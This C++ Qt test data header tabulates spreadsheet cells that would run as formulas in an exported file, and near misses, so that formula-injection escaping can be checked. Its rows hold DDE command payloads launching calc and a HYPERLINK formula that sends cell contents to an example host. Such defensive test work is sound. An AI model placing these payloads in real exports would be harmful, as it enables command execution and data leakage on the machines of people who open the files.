#pragma once

// Cells that a spreadsheet opening an exported file would run as formulas,
// and their near misses, which it reads as text or as numbers: one table for
// the points lists and the EDE layouts alike.

#include <QString>
#include <QTest>

namespace test {

// Columns: "cell", the text a cell holds; "formula", whether a spreadsheet
// runs it; "field", the field a points list writes for it.
inline void Hostile_Cells_Data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<bool>("formula");
    QTest::addColumn<QString>("field");
    const auto row = [](const char *name, const char *cell, bool formula, const char *field) {
        QTest::newRow(name) << QString::fromUtf8(cell) << formula << QString::fromUtf8(field);
    };
    row("hyperlink", "=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")", true,
        "'=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")");
    row("command", "=cmd|' /C calc'!A0", true, "'=cmd|' /C calc'!A0");
    row("plus", "+1+cmd|' /C calc'!A0", true, "'+1+cmd|' /C calc'!A0");
    row("minus", "-2+3+cmd|' /C calc'!A0", true, "'-2+3+cmd|' /C calc'!A0");
    row("at", "@SUM(1+1)*cmd|' /C calc'!A0", true, "'@SUM(1+1)*cmd|' /C calc'!A0");
    row("minus alone", "-", true, "'-");
    // The text's own apostrophes stay: one more goes in front.
    row("apostrophe before a formula", "'=1+2", false, "''=1+2");
    row("two apostrophes before a formula", "''-1-1", false, "'''-1-1");
    row("apostrophe before text", "'Pump", false, "'Pump");
    row("negative number", "-5", false, "-5");
    row("signed number", "+12", false, "+12");
    row("decimal number", "-5.5", false, "-5.5");
    row("sign inside", "Pump -5", false, "Pump -5");
    row("equals inside", "a=b", false, "a=b");
}

} // namespace test
